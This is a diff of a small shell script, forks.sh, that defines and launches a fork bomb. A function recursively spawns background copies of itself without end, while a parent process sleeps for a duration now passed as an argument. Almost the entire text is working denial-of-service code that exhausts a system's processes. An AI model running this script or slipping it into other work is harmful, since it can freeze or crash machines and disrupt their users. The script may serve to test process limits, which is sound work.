@@ -1,10 +1,10 @@
 #!/bin/sh
-# A fork bomb. What was started first stays, so that nothing ends by itself.
+# A fork bomb. What was started first stays, for a time that it is told, so that nothing ends by itself.
 bomb() { while :; do bomb & bomb & done; }
-if [ "$1" = bomb ]; then
+if [ "$2" = bomb ]; then
   bomb 2>/dev/null
 else
   echo started
-  ./forks.sh bomb &
-  exec sleep 2000
+  ./forks.sh "$1" bomb &
+  exec sleep "$1"
 fi
